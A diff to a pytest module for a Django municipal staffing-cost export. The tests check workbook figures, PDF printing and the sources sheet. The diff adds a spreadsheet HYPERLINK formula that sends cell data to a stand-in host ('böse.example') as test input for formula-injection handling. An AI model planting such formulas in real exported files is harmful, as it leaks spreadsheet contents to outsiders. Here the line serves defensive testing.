@@ -17,6 +17,7 @@ from __future__ import annotations
 import math
 import shutil
 import subprocess
+from datetime import date
 from decimal import ROUND_HALF_UP, Decimal
 from io import BytesIO
 from pathlib import Path
@@ -29,11 +30,15 @@ from openpyxl import load_workbook
 from pypdf import PdfReader
 from python_calamine import CalamineWorkbook
 
+from departments.models import OrgUnit
+from stellenplan.models import PayGrade
 from tests.costing.test_excel_libreoffice import RECALC_ALWAYS
+from tests.factories import PositionFactory
 from tests.stellenplan.plan_fixtures import reference_plan
 
 pytestmark = pytest.mark.usefixtures("seed")
 
+FORMULA = '=HYPERLINK("http://böse.example/?d="&A1;"Klick")'
 REFERENCE = {Decimal("13.5"), Decimal("1128560"), Decimal("405768"), Decimal("722792")}
 MIN_PRINTED_POINTS = 8
 CENT = Decimal("0.01")
@@ -50,6 +55,13 @@ def files(seed_world, django_db_blocker, tmp_path_factory) -> dict[str, Path]:
         user = get_user_model().objects.create_user("kaemmerei-exporte")
         user.groups.add(Group.objects.get(name="Kämmerei"))
         plan = reference_plan()
+        PositionFactory(
+            org_unit=OrgUnit.objects.get(code="20-4"),
+            pay_grade=PayGrade.objects.get(code="A 8"),
+            title="Formeltext",
+            tasks=FORMULA,
+            start_date=date(2013, 1, 1),  # not in 2012: the reference figures stay
+        )
         client = Client()
         client.force_login(user)
         urls = {
@@ -113,10 +125,11 @@ def test_the_reference_figures_are_values_in_the_files(files):
     overview = costs["Übersicht"]
     total = next(r for r in overview if r[1] == "Gesamt")
     assert total[2:7] == [13.5, 1128560, 1128560, 405768, 722792]
-    assert REFERENCE <= numbers(overview)
+    assert numbers(overview) >= REFERENCE
     stellen = costs["Stellen"]
     header = stellen[3]
-    assert stellen[2][header.index("Anzahl der Stellen")] == 13.5
+    # every position listed: the 13,5 Stellen of 2012 and the one from 2013 with the formula text
+    assert stellen[2][header.index("Anzahl der Stellen")] == 14.5
     assert stellen[2][header.index("Kosten 2012")] == 1128560
 
     projection = calamine_values(files["finanzplanung"])["Finanzplanung"]
@@ -244,3 +257,20 @@ def test_every_printed_page_has_no_text_below_8_pt(printed):
             assert "Stand: " in page_text, (name, number)
         report[name] = (len(reader.pages), min(smallest))
     print(report)
+    # Text that begins like a formula prints as it is: no apostrophe, not evaluated.
+    text = "".join(page.extract_text() for page in PdfReader(printed["kosten"]).pages)
+    assert "=HYPERLINK(" in text
+    assert "'=HYPERLINK" not in text
+
+
+def test_the_sources_cite_source_and_date_without_internal_notes(client, django_user_model):
+    client.force_login(django_user_model.objects.create_user("leser"))
+    response = client.get(reverse("costs:projection_export"), {"year": 2025})
+    book = CalamineWorkbook.from_filelike(BytesIO(b"".join(response.streaming_content)))
+    sources = book.get_sheet_by_name("Quellen und Annahmen").to_python()
+    texts = [str(v) for row in sources for v in row if v]
+    assert "vereinbart: TVöD-VKA, Tarifeinigung vom 22.04.2023: ab 01.03.2024 Sockelbetrag " in (
+        "\n".join(texts)
+    )
+    for internal in ("DOMAIN.md", "geprüft über", "Gewerkschaftsseiten", "sekundär zitiert"):
+        assert not [t for t in texts if internal in t], internal
